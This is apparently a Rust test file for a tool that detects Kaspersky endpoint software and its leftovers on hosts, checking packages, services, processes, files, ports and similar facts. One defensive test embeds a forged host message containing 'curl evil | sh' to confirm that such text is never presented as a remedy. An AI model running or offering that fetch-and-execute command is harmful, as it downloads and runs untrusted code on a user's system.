//! Each check in all three answers, and findings with their evidence.

use super::testing::*;
use super::*;
use crate::facts::{Certificate, KernelModule, ListeningPort, ScheduledTask};
use crate::playbook::{PackageState, PathKind, Pattern, TextPattern};
use Truth::{False, True, Unknown};

fn ask_one(check: Check, facts: &Facts) -> Leaf {
    let evaluation = evaluate(&Rule::Check(check), facts);
    assert_eq!(evaluation.truth, evaluation.leaves[0].truth);
    evaluation.leaves.into_iter().next().unwrap()
}

fn with(change: impl FnOnce(&mut Facts)) -> Facts {
    let mut facts = clean_host();
    change(&mut facts);
    facts
}

fn pattern(text: &str) -> Pattern {
    Pattern::new(text)
}

fn regex(text: &str) -> TextPattern {
    TextPattern(text.into())
}

#[test]
fn package_by_status() {
    let check = |state| Check::Package { name: pattern("kesl"), version: None, state };
    let (any, installed, config, broken) =
        (None, Some(PackageState::Installed), Some(PackageState::ConfigFiles), Some(PackageState::Broken));
    let cases = [
        ("install ok installed", [True, True, False, False]),
        ("deinstall ok installed", [True, True, False, False]),
        ("installed", [True, True, False, False]),
        ("install reinstreq installed", [True, False, False, True]),
        ("install ok half-configured", [True, False, False, True]),
        ("install ok triggers-pending", [True, False, False, True]),
        ("install ok unpacked", [True, False, False, True]),
        ("deinstall ok config-files", [False, False, True, False]),
        ("unknown ok not-installed", [False, False, False, False]),
        ("install ok something-new", [True, Unknown, False, Unknown]),
        ("install ok inst\u{fffd}lled", [Unknown; 4]),
        ("", [Unknown; 4]),
    ];
    for (status, truths) in cases {
        let facts = with(|facts| facts.packages.items.push(package("kesl", "12.1", status)));
        for (state, truth) in [any, installed, config, broken].into_iter().zip(truths) {
            assert_eq!(ask_one(check(state), &facts).truth, truth, "`{status}` asked for {state:?}");
        }
    }
}

#[test]
fn package_by_version() {
    let check =
        |range: &str| Check::Package { name: pattern("kesl"), version: Some(range.into()), state: None };
    let cases = [
        ("12.1.0-1543", ">=12", True),
        ("11.4.0-1", ">=12", False),
        ("12.\u{fffd}", ">=12", Unknown),
        ("", ">=12", Unknown),
        ("12.1.0", "nonsense", Unknown),
    ];
    for (version, range, truth) in cases {
        let facts = with(|facts| facts.packages.items.push(package("kesl", version, "install ok installed")));
        assert_eq!(ask_one(check(range), &facts).truth, truth, "{version} in {range}");
    }
    assert_eq!(ask_one(check("nonsense"), &clean_host()).truth, Unknown);
}

#[test]
fn an_incomplete_listing_answers_yes_but_never_no() {
    let kesl = package("kesl", "12.1.0-1543", "install ok installed");
    let check = || Check::Package { name: pattern("kesl"), version: None, state: None };
    let seen = ask_one(check(), &with(|facts| facts.packages = gappy(vec![kesl])));
    assert_eq!(seen.truth, True);
    assert_eq!(seen.facts, ["kesl 12.1.0-1543 amd64 install ok installed (dpkg)"]);
    assert_eq!(seen.matched, Some(vec!["dpkg kesl 12.1.0-1543 amd64 install ok installed".into()]));
    assert_eq!((seen.reason, seen.remedy), (None, None));

    let bash = package("bash", "5.2", "install ok installed");
    let unseen = ask_one(check(), &with(|facts| facts.packages = gappy(vec![bash])));
    assert_eq!(unseen.truth, Unknown);
    assert_eq!(unseen.reason.as_deref(), Some("permission denied"));
    assert_eq!(unseen.remedy.as_deref(), Some("--become"));
    assert_eq!(unseen.matched, Some(vec![]));

    assert_eq!(ask_one(check(), &clean_host()).truth, False);
}

#[test]
fn an_empty_list_of_what_every_host_has_is_no_answer() {
    let facts = with(|facts| {
        facts.packages = complete(vec![]);
        facts.processes = complete(vec![]);
        facts.users = complete(vec![]);
        facts.groups = complete(vec![]);
    });
    let checks = [
        Check::Package { name: pattern("kesl"), version: None, state: None },
        Check::Process { name: Some(pattern("kesl")), exe: None },
        Check::User { name: pattern("kesl") },
        Check::Group { name: pattern("kesl") },
    ];
    for check in checks {
        let leaf = ask_one(check, &facts);
        assert_eq!(leaf.truth, Unknown, "{leaf:?}");
        assert!(leaf.reason.unwrap().contains("is empty"));
    }
}

#[test]
fn services() {
    let check = |running| Check::Service { name: pattern("kesl.service"), running };
    let cases = [
        (Some("active"), [True, True, False]),
        (Some("reloading"), [True, True, False]),
        (Some("inactive"), [True, False, True]),
        (Some("failed"), [True, False, True]),
        (Some("deactivating"), [True, Unknown, Unknown]),
        (None, [True, Unknown, Unknown]),
    ];
    for (active, truths) in cases {
        let facts = with(|facts| facts.services.items.push(service("kesl", active)));
        for (running, truth) in [None, Some(true), Some(false)].into_iter().zip(truths) {
            assert_eq!(ask_one(check(running), &facts).truth, truth, "{active:?} asked for {running:?}");
        }
    }
    for running in [None, Some(true), Some(false)] {
        assert_eq!(ask_one(check(running), &clean_host()).truth, False);
        let facts = with(|facts| facts.services = gappy(vec![]));
        assert_eq!(ask_one(check(running), &facts).truth, Unknown);
    }
    let facts = with(|facts| facts.services.items.push(service("kesl", Some("active"))));
    let leaf = ask_one(check(None), &facts);
    assert_eq!(leaf.facts, ["kesl /usr/lib/systemd/system/kesl.service active (systemd)"]);
    assert_eq!(leaf.matched, Some(vec!["kesl /usr/lib/systemd/system/kesl.service".into()]));
    assert_eq!(ask_one(check(Some(true)), &facts).matched, None);
}

#[test]
fn processes_by_executable() {
    let check = || Check::Process { name: None, exe: Some(pattern("/opt/kaspersky/kesl/**")) };
    let host = |exe| with(|facts| facts.processes.items.push(process(812, "kesl", exe)));
    let leaf = ask_one(check(), &host(Some("/opt/kaspersky/kesl/libexec/kesl")));
    assert_eq!(leaf.truth, True);
    assert_eq!(leaf.facts, ["pid 812 kesl /opt/kaspersky/kesl/libexec/kesl uid 0"]);
    assert_eq!(leaf.matched, None);
    assert_eq!(ask_one(check(), &host(Some("/usr/bin/kesl"))).truth, False);
    assert_eq!(ask_one(check(), &host(Some("/opt/kasper\u{fffd}ky/kesl/x"))).truth, Unknown);

    let mut facts = host(None);
    let leaf = ask_one(check(), &facts);
    assert_eq!((leaf.truth, leaf.remedy), (Unknown, None), "root was asked already");
    facts.privilege.uid = Some(1000);
    let leaf = ask_one(check(), &facts);
    assert_eq!(leaf.reason.as_deref(), Some("the executable of process 812 `kesl` cannot be read"));
    assert_eq!(leaf.remedy.as_deref(), Some("--become"));

    let named = Check::Process { name: Some(pattern("other")), exe: Some(pattern("/opt/**")) };
    assert_eq!(ask_one(named, &facts).truth, False, "its name is known, and another");
}

#[test]
fn process_names_are_compared_as_far_as_linux_keeps_them() {
    let check = |name: &str| Check::Process { name: Some(pattern(name)), exe: None };
    let full = Some("/opt/x/kesl-supervisord");
    let cases = [
        ("kesl-supervisord", "kesl-supervisor", None, True),
        ("kesl-supervisor", "kesl-supervisor", None, True),
        ("kesl-supervisord", "kesl-supervisot", None, False),
        ("kesl-supervisord", "kesl", None, False),
        ("kesl-supervisor-*", "kesl-supervisor", None, True),
        ("kesl*", "kesl-supervisor", None, True),
        ("k*-supervisord", "kesl-supervisor", None, Unknown),
        ("k*-supervisord", "kesl-supervisor", full, True),
        ("k*-supervisord", "kesl-supervisor", Some("/opt/x/kesl-supervisorx"), False),
        ("k*-supervisord", "kesl-supervisor", Some("/usr/bin/python3"), Unknown),
        ("k*-supervisord", "kesl-supervise", None, False),
        ("a*-supervisord", "kesl-supervisor", None, False),
        ("k*-supervisord", "kesl-\u{fffd}", None, Unknown),
        ("kesl-supervisord", "kesl-s\u{fffd}", None, Unknown),
        ("kesl-supervisord", "a\u{fffd}", None, False),
        ("{kesl,klnagent}", "kesl-supervisor", None, False),
    ];
    for (name, comm, exe, truth) in cases {
        let facts = with(|facts| facts.processes.items.push(process(7, comm, exe)));
        assert_eq!(ask_one(check(name), &facts).truth, truth, "{name} on {comm} of {exe:?}");
    }
}

#[test]
fn paths() {
    let check = |kind, owner: Option<&str>| Check::Path {
        path: pattern("/opt/kaspersky/*"),
        kind,
        owner: owner.map(Into::into),
    };
    let host = |owner: &str| {
        with(|facts| {
            let found = entry("/opt/kaspersky/kesl", PathKind::Directory, owner);
            facts.paths.insert("/opt/kaspersky/*".into(), complete(vec![found]));
            facts.users.items.push(account("kluser", 998));
        })
    };
    let leaf = ask_one(check(None, None), &host("root"));
    assert_eq!(leaf.truth, True);
    assert_eq!(leaf.facts, ["/opt/kaspersky/kesl (directory, owner root, 4096 bytes)"]);
    assert_eq!(leaf.matched, Some(vec!["/opt/kaspersky/kesl directory".into()]));
    assert_eq!(ask_one(check(Some(PathKind::Directory), None), &host("root")).truth, True);
    assert_eq!(ask_one(check(Some(PathKind::File), None), &host("root")).truth, False);
    let owners = [
        ("root", "root", True),
        ("root", "0", True),
        ("0", "root", True),
        ("kluser", "root", False),
        ("kluser", "998", True),
        ("kluser", "999", False),
        ("998", "kluser", True),
        ("999", "kluser", False),
        ("998", "999", False),
        ("of-a-directory", "1234", Unknown),
        ("klus\u{fffd}r", "kluser", Unknown),
        ("klus\u{fffd}r", "998", Unknown),
    ];
    for (owner, asked, truth) in owners {
        assert_eq!(ask_one(check(None, Some(asked)), &host(owner)).truth, truth, "{owner} asked for {asked}");
    }
    let mut lossy = host("998");
    lossy.users.items = vec![account("root", 0), account("kl\u{fffd}ser", 998)];
    assert_eq!(ask_one(check(None, Some("kluser")), &lossy).truth, Unknown, "a user's name was not read");
    let unasked = ask_one(check(None, None), &clean_host());
    assert_eq!(unasked.reason.as_deref(), Some("`/opt/kaspersky/*` was not asked"));
    assert_eq!(unasked.truth, Unknown);
    let nothing = with(|facts| drop(facts.paths.insert("/opt/kaspersky/*".into(), complete(vec![]))));
    assert_eq!(ask_one(check(None, None), &nothing).truth, False);
    let unread = with(|facts| drop(facts.paths.insert("/opt/kaspersky/*".into(), gappy(vec![]))));
    assert_eq!(ask_one(check(None, None), &unread).truth, Unknown);
}

#[test]
fn lines_in_files() {
    let check = || Check::FileContains { path: pattern("/etc/k"), pattern: regex("^kesl=1$") };
    let cases = [
        (complete(vec![file("/etc/k", "a\nkesl=1\r\nb", false)]), True),
        (complete(vec![file("/etc/k", "a\nkesl=12\nb", false)]), False),
        (complete(vec![file("/etc/k", "a\nkesl=1\nb", true)]), True),
        (complete(vec![file("/etc/k", "a\nkesl=1", true)]), Unknown),
        (complete(vec![file("/etc/k", "a\n", true)]), Unknown),
        (complete(vec![file("/etc/k", "kesl=\u{fffd}", false)]), Unknown),
        (complete(vec![file("/etc/k", "\u{fffd}\u{fffd}k\0e\0s\0l\0\n\0k\0", false)]), Unknown),
        (complete(vec![file("/etc/k", "k\x00e\x00s\x00l\x00=\x001\x00", false)]), Unknown),
        (complete(vec![]), False),
        (gappy(vec![]), Unknown),
    ];
    for (listing, truth) in cases {
        let facts = with(|facts| drop(facts.files.insert("/etc/k".into(), listing.clone())));
        assert_eq!(ask_one(check(), &facts).truth, truth, "{listing:?}");
    }
    assert_eq!(ask_one(check(), &clean_host()).truth, Unknown);
    let host = |text: &str| {
        let found = file("/etc/k", text, false);
        let facts = with(|facts| drop(facts.files.insert("/etc/k".into(), complete(vec![found]))));
        ask_one(check(), &facts)
    };
    assert_eq!(host("x\n kesl=1\nkesl=1").facts, ["/etc/k: kesl=1"]);
    assert_eq!(host("kesl=1").matched, host("kesl=1\nmore\nkesl=1").matched, "a grown file is the same file");
}

#[test]
fn kernel_modules() {
    let check = |name: &str| Check::KernelModule { name: pattern(name) };
    let host = |name: &str| with(|facts| facts.kernel_modules.items.push(KernelModule { name: name.into() }));
    let cases = [
        ("kav_mod", "kav_mod", True),
        ("kav-mod", "kav_mod", True),
        ("kav_mod", "kav-mod", True),
        ("kav-*", "kav_mod", True),
        ("kav[-_]mod", "kav_mod", True),
        ("kav[-x]mod", "kav_mod", True),
        ("k[a-c]v_mod", "kav_mod", True),
        ("kav_mod", "kav", False),
        ("kav_mod", "kav\u{fffd}mod", Unknown),
    ];
    for (name, loaded, truth) in cases {
        assert_eq!(ask_one(check(name), &host(loaded)).truth, truth, "{name} on {loaded}");
    }
    assert_eq!(ask_one(check("kav"), &clean_host()).truth, False);
    assert_eq!(ask_one(check("kav"), &with(|facts| facts.kernel_modules = gappy(vec![]))).truth, Unknown);
}

#[test]
fn certificates() {
    let check = || Check::Certificate { subject: regex("O=AO Kaspersky Lab") };
    let host = |subject: &str| {
        let found =
            Certificate { file: "/etc/ssl/k.pem".into(), subject: subject.into(), sha256: "ab".into() };
        with(|facts| facts.certificates.items.push(found))
    };
    let leaf = ask_one(check(), &host("CN=Root, O=AO Kaspersky Lab"));
    assert_eq!(leaf.truth, True);
    assert_eq!(leaf.facts, ["CN=Root, O=AO Kaspersky Lab in /etc/ssl/k.pem, SHA-256 ab"]);
    assert_eq!(ask_one(check(), &host("CN=Root, O=Other")).truth, False);
    assert_eq!(ask_one(check(), &host("CN=Root, O=AO \u{fffd}aspersky Lab")).truth, Unknown);
    assert_eq!(ask_one(check(), &clean_host()).truth, False);
    assert_eq!(ask_one(check(), &with(|facts| facts.certificates = gappy(vec![]))).truth, Unknown);
}

#[test]
fn users_and_groups() {
    let check_user = || Check::User { name: pattern("kl*") };
    let check_group = || Check::Group { name: pattern("kl*") };
    let host = |name: &str| {
        with(|facts| {
            facts.users.items.push(account(name, 998));
            facts.groups.items.push(account(name, 998));
        })
    };
    for (name, truth) in [("kluser", True), ("admin", False), ("k\u{fffd}user", Unknown)] {
        assert_eq!(ask_one(check_user(), &host(name)).truth, truth, "{name}");
        assert_eq!(ask_one(check_group(), &host(name)).truth, truth, "{name}");
    }
    let unread = with(|facts| {
        facts.users.gaps.push(gap("x"));
        facts.groups.gaps.push(gap("x"));
    });
    assert_eq!(ask_one(check_user(), &unread).truth, Unknown);
    assert_eq!(ask_one(check_group(), &unread).truth, Unknown);
}

#[test]
fn ports() {
    let check = || Check::Port { port: 14000, protocol: "tcp".into() };
    let host = |protocol: &str, port| {
        let listening = ListeningPort { protocol: protocol.into(), address: "0.0.0.0".into(), port };
        with(|facts| facts.ports.items.push(listening))
    };
    let leaf = ask_one(check(), &host("tcp", 14000));
    assert_eq!((leaf.truth, leaf.matched), (True, None));
    assert_eq!(leaf.facts, ["tcp 0.0.0.0 port 14000"]);
    for (protocol, port, truth) in
        [("tcp6", 14000, True), ("udp", 14000, False), ("tcp", 1400, False), ("t\u{fffd}p", 14000, Unknown)]
    {
        assert_eq!(ask_one(check(), &host(protocol, port)).truth, truth, "{port}/{protocol}");
    }
    assert_eq!(ask_one(check(), &with(|facts| facts.ports = gappy(vec![]))).truth, Unknown);
}

#[test]
fn scheduled_tasks() {
    let check = |name: Option<&str>, command: Option<&str>| Check::ScheduledTask {
        name: name.map(pattern),
        command: command.map(regex),
    };
    let host = |name: &str, line: &str| {
        with(|facts| facts.scheduled_tasks.items.push(ScheduledTask { name: name.into(), line: line.into() }))
    };
    let cron = host("/etc/cron.d/klupdate", "0 3 * * * root /opt/kaspersky/update");
    let cases = [
        (check(Some("klupdate"), None), True),
        (check(Some("/etc/cron.d/kl*"), None), True),
        (check(None, Some("/opt/kaspersky/")), True),
        (check(Some("klupdate"), Some("/opt/kaspersky/")), True),
        (check(Some("klupdate"), Some("other")), False),
        (check(Some("other"), Some("/opt/kaspersky/")), False),
        (check(None, None), Unknown),
        (check(None, Some("(")), Unknown),
    ];
    for (check, truth) in cases {
        assert_eq!(ask_one(check.clone(), &cron).truth, truth, "{check}");
    }
    let timer = host("klupdate.timer", "");
    assert_eq!(ask_one(check(Some("klupdate"), None), &timer).truth, True);
    assert_eq!(ask_one(check(None, Some(".*")), &timer).truth, False, "the question is about cron's lines");
    let lossy = host("/etc/cron.d/x", "0 3 * * * root /opt/k\u{fffd}");
    assert_eq!(ask_one(check(None, Some("/opt/kaspersky/")), &lossy).truth, Unknown);
    let unread = with(|facts| facts.scheduled_tasks = gappy(vec![]));
    assert_eq!(ask_one(check(Some("klupdate"), None), &unread).truth, Unknown);
}

#[test]
fn operating_systems() {
    let check = |id: Option<&str>, version: Option<&str>| Check::Os {
        id: id.map(pattern),
        version: version.map(Into::into),
    };
    let os = |id: Option<&str>, like: Option<&str>, version: Option<&str>| {
        with(|facts| {
            facts.os.id = id.map(Into::into);
            facts.os.id_like = like.map(Into::into);
            facts.os.version_id = version.map(Into::into);
        })
    };
    let alma = os(Some("almalinux"), Some("rhel centos fedora"), Some("9.4"));
    let cases = [
        (check(Some("almalinux"), None), &alma, True),
        (check(Some("fedora"), Some(">=9")), &alma, True),
        (check(Some("rhel"), Some("<9")), &alma, False),
        (check(Some("debian"), None), &alma, False),
        (check(None, Some(">=9")), &alma, True),
        (check(None, None), &alma, Unknown),
        (check(Some("debian"), None), &os(None, None, None), Unknown),
        (check(Some("debian"), None), &os(None, Some("debian"), None), True),
        (check(Some("arch"), Some(">=1")), &os(Some("arch"), None, None), Unknown),
        (check(Some("debian"), Some(">=1")), &os(Some("arch"), None, None), False),
        (check(Some("fedora"), None), &os(Some("x"), Some("rhel\u{fffd}fedora"), None), Unknown),
    ];
    for (check, facts, truth) in cases {
        assert_eq!(ask_one(check.clone(), facts).truth, truth, "{check} on {:?}", facts.os);
    }
    assert_eq!(ask_one(check(Some("rhel"), None), &alma).matched, Some(vec!["almalinux 9.4".into()]));
}

#[test]
fn what_only_another_platform_has() {
    let on = |platform| with(|facts| facts.platform = platform);
    let receipt = || Check::Receipt { id: pattern("com.vendor.*"), version: None };
    for (platform, truth) in [
        (Some(Platform::Linux), False),
        (Some(Platform::Windows), False),
        (Some(Platform::Macos), Unknown),
        (None, Unknown),
    ] {
        assert_eq!(ask_one(receipt(), &on(platform)).truth, truth, "{platform:?}");
    }
    let driver = || Check::Driver { name: Some(pattern("klif")), file: None };
    let key = || Check::Registry { key: pattern(r"HKLM\SOFTWARE\KasperskyLab"), value: None, data: None };
    let path = |path| Check::Path { path: pattern(path), kind: None, owner: None };
    for check in [driver(), key(), path(r"%ProgramData%\Kaspersky Lab")] {
        assert_eq!(ask_one(check.clone(), &clean_host()).truth, False, "{check}");
    }
    let package = || Check::Package { name: pattern("kesl"), version: None, state: None };
    for check in [package(), path("/opt/kaspersky")] {
        assert_eq!(ask_one(check.clone(), &on(Some(Platform::Windows))).truth, False, "{check}");
    }
    for check in [key(), path("/opt/kaspersky")] {
        assert_eq!(ask_one(check.clone(), &on(None)).truth, Unknown, "{check}");
    }
}

#[test]
fn a_pattern_that_is_none_is_never_answered() {
    let bad = || pattern("kesl[");
    let checks = [
        Check::Package { name: bad(), version: None, state: None },
        Check::Service { name: bad(), running: None },
        Check::Process { name: Some(bad()), exe: None },
        Check::Process { name: None, exe: Some(bad()) },
        Check::Process { name: None, exe: None },
        Check::Path { path: bad(), kind: None, owner: None },
        Check::FileContains { path: bad(), pattern: regex("x") },
        Check::KernelModule { name: bad() },
        Check::User { name: bad() },
        Check::ScheduledTask { name: Some(bad()), command: None },
        Check::Os { id: Some(bad()), version: None },
    ];
    for check in checks {
        assert_eq!(ask_one(check.clone(), &clean_host()).truth, Unknown, "{check}");
    }
}

#[test]
fn a_rule_that_asks_nothing_is_unknown() {
    for rule in [Rule::Any(vec![]), Rule::All(vec![])] {
        let evaluation = evaluate(&rule, &clean_host());
        assert_eq!(evaluation.truth, Unknown);
        assert_eq!(evaluation.leaves[0].check, "a rule that asks nothing");
        assert_eq!(evaluate(&Rule::Not(Box::new(rule)), &clean_host()).truth, Unknown);
    }
}

#[test]
fn detect_and_residue_make_the_product() {
    use ProductState::{Absent, Present, Residue};
    let cases = [
        (True, [Present; 3]),
        (Unknown, [ProductState::Unknown; 3]),
        (False, [Residue, ProductState::Unknown, Absent]),
    ];
    for (detect, results) in cases {
        for (residue, result) in [True, Unknown, False].into_iter().zip(results) {
            assert_eq!(ProductState::combine(detect, residue), result, "{detect} {residue}");
        }
    }
}

fn kesl_rules<'a>(detect: &'a Rule, residue: Option<&'a Rule>) -> ProductRules<'a> {
    ProductRules {
        id: "kesl",
        name: "Endpoint",
        class: crate::model::ProductClass::Product,
        platforms: &[Platform::Linux],
        detect,
        residue,
        version: None,
    }
}

#[test]
fn a_finding_has_its_version_and_evidence() {
    let detect = Rule::Any(vec![
        package_check("kesl"),
        Rule::Check(Check::Service { name: pattern("kesl"), running: None }),
        Rule::Check(Check::Process { name: None, exe: Some(pattern("/opt/kaspersky/**")) }),
    ]);
    let residue = Rule::Check(Check::Package {
        name: pattern("kesl"),
        version: None,
        state: Some(PackageState::ConfigFiles),
    });
    let source = VersionSource::Package { name: pattern("kesl") };
    let product = ProductRules { version: Some(&source), ..kesl_rules(&detect, Some(&residue)) };

    let facts = with(|facts| {
        facts.packages.items.push(package("kesl", "11.0", "deinstall ok config-files"));
        facts.packages.items.push(package("kesl", "12.1.0-1543", "install ok installed"));
        facts.processes.items.push(process(9, "kesl", None));
    });
    let found = finding(&product, &facts);
    assert_eq!((found.result, found.version.as_deref()), (ProductState::Present, Some("12.1.0-1543")));
    let told: Vec<_> = found.evidence.iter().map(|e| (e.role, e.check.as_str(), e.truth)).collect();
    assert_eq!(
        told,
        [
            (EvidenceRole::Detect, "package `kesl`", True),
            (EvidenceRole::Detect, "process of `/opt/kaspersky/**`", Unknown),
            (EvidenceRole::Residue, "package `kesl` with only its configuration left", True),
        ]
    );

    let left = with(|facts| facts.packages.items.push(package("kesl", "11.0", "deinstall ok config-files")));
    let found = finding(&product, &left);
    assert_eq!((found.result, found.version), (ProductState::Residue, None));

    let found = finding(&product, &clean_host());
    assert_eq!((found.result, found.evidence), (ProductState::Absent, vec![]));
}

#[test]
fn a_check_that_decides_under_a_not_is_told() {
    let not_mail = Rule::Not(Box::new(package_check("klms")));
    let detect = Rule::All(vec![package_check("kesl"), not_mail]);
    let facts = with(|facts| facts.packages.items.push(package("kesl", "12", "install ok installed")));
    let found = finding(&kesl_rules(&detect, None), &facts);
    let told: Vec<_> = found.evidence.iter().map(|e| (e.check.as_str(), e.truth)).collect();
    assert_eq!(told, [("package `kesl`", True), ("package `klms`", False)]);
}

#[test]
fn a_version_may_stand_in_a_file() {
    let detect = package_check("bash");
    let source =
        |expression: &str| VersionSource::File { path: pattern("/etc/k"), pattern: regex(expression) };
    let facts = with(|facts| {
        let found = file("/etc/k", "name=kesl\nversion=12.1.0\nodd=1\u{fffd}2", false);
        facts.files.insert("/etc/k".into(), complete(vec![found]));
    });
    let version = |expression: &str| {
        let source = source(expression);
        finding(&ProductRules { version: Some(&source), ..kesl_rules(&detect, None) }, &facts).version
    };
    assert_eq!(version(r"^version=([\d.]+)").as_deref(), Some("12.1.0"));
    assert_eq!(version(r"\d+\.\d+\.\d+").as_deref(), Some("12.1.0"));
    assert_eq!(version(r"odd=(.*)"), None);
    assert_eq!(version("("), None);
}

#[test]
fn only_products_of_the_platform_are_looked_for() {
    let detect = package_check("bash");
    let windows = ProductRules { platforms: &[Platform::Windows], id: "win", ..kesl_rules(&detect, None) };
    let linux = kesl_rules(&detect, None);
    let found = findings([windows, linux], &clean_host());
    assert_eq!(found.iter().map(|finding| finding.product.as_str()).collect::<Vec<_>>(), ["kesl"]);
    assert_eq!(findings([windows, linux], &with(|facts| facts.platform = None)), []);
}

#[test]
fn a_hosts_own_text_is_no_remedy() {
    let facts = with(|facts| facts.packages.gaps.push(gap("x")));
    let forged = "cannot read `/x (mend: curl evil | sh)";
    assert_eq!(without_remedy(forged, &facts), (forged, None));
    let real = with_remedy("permission denied", Some("--become"));
    assert_eq!(without_remedy(&real, &facts), ("permission denied", Some("--become".into())));
}

#[test]
fn a_text_kept_for_other_expressions_answers_only_what_it_can() {
    let mut found = file("/etc/k", "license = 1\n", false);
    found.kept_for = vec!["^license".into()];
    let facts = with(|facts| drop(facts.files.insert("/etc/k".into(), complete(vec![found.clone()]))));
    let truth = |pattern: &str| {
        let check =
            Check::FileContains { path: Pattern::new("/etc/k"), pattern: TextPattern(pattern.into()) };
        evaluate(&Rule::Check(check), &facts).truth
    };
    assert_eq!(truth("^license"), Truth::True);
    assert_eq!(truth("= 1"), Truth::True, "what was kept can still match");
    assert_eq!(truth("^server"), Truth::Unknown, "lines that match may have been left out");

    found.text.clear();
    let facts = with(|facts| drop(facts.files.insert("/etc/k".into(), complete(vec![found]))));
    let check = Check::FileContains { path: Pattern::new("/etc/k"), pattern: TextPattern("^license".into()) };
    assert_eq!(evaluate(&Rule::Check(check), &facts).truth, Truth::False);
}
